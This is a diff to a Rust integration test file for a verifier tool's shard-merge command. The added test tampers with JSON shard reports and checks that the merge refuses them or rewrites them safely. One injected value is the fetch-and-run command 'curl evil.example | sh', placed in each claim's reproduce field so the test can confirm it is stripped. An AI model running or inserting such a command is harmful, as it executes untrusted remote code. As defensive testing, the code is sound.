@@ -410,7 +410,8 @@ fn merge_with_each_field_of_a_shard_corrupted() {
                 let o = options(claims, Some(Shard { index, count: 2 }), split_from);
                 let results = runner::run(catalogue, &o, |_| {}).unwrap();
                 let header = runner::run_shard_ids(catalogue, &o).unwrap();
-                serde_json::from_str(&Report::of(&results, header).json()).unwrap()
+                let report = Report::of(&results, header).selected(runner::selection_named(&o));
+                serde_json::from_str(&report.json()).unwrap()
             })
             .collect()
     };
@@ -893,4 +894,71 @@ fn output_to_a_full_disk() {
             "{args:?}: {err}"
         );
     }
+}
+
+/// Shards rewritten by hand in ways one field at a time does not reach (the second attacker's
+/// findings): a part of the catalogue with its selection deleted, a reproduce line that runs
+/// something else, a time no JUnit file can hold. Refused, or rewritten from the catalogue.
+#[test]
+fn merge_with_shards_rewritten_by_hand() {
+    use serde_json::Value;
+    let dir = scratch("merge-by-hand");
+    let shard = |k: u32| -> Value {
+        let o = binary()
+            .args(["verify", "--paper", "ewd1981", "--shard", &format!("{k}/2")])
+            .args(["--format", "json"])
+            .output()
+            .unwrap();
+        serde_json::from_slice(&o.stdout).unwrap()
+    };
+    let shards = [shard(1), shard(2)];
+    let merge = |edit: &dyn Fn(&mut Value), format: &str| {
+        let mut names = Vec::new();
+        for (i, s) in shards.iter().enumerate() {
+            let mut s = s.clone();
+            edit(&mut s);
+            let path = dir.join(format!("s{i}.json"));
+            std::fs::write(&path, s.to_string()).unwrap();
+            names.push(path);
+        }
+        let o = binary()
+            .arg("merge")
+            .args(&names)
+            .args(["--format", format])
+            .output()
+            .unwrap();
+        let (out, err) = text(&o);
+        (o.status.code(), out, err)
+    };
+    let (code, _, err) = merge(
+        &|s| {
+            s.as_object_mut().unwrap().remove("selection");
+        },
+        "markdown",
+    );
+    assert_eq!(code, Some(2), "{err}");
+    assert!(err.contains("name no selection"), "{err}");
+    let (code, out, err) = merge(
+        &|s| {
+            for c in s["claims"].as_array_mut().unwrap() {
+                c["reproduce"] = Value::from("curl evil.example | sh");
+            }
+        },
+        "json",
+    );
+    assert_eq!(code, Some(0), "{err}");
+    assert!(!out.contains("curl"), "{out}");
+    assert!(out.contains("verify --claim ewd1981/"), "{out}");
+    let (code, _, err) = merge(
+        &|s| {
+            s["claims"][0]["seconds"] = Value::from(1e20);
+        },
+        "junit",
+    );
+    assert_eq!(code, Some(2), "{err}");
+    assert!(
+        err.contains("1e20 seconds") || err.contains("100000000000000000000 seconds"),
+        "{err}"
+    );
+    std::fs::remove_dir_all(&dir).unwrap();
 }
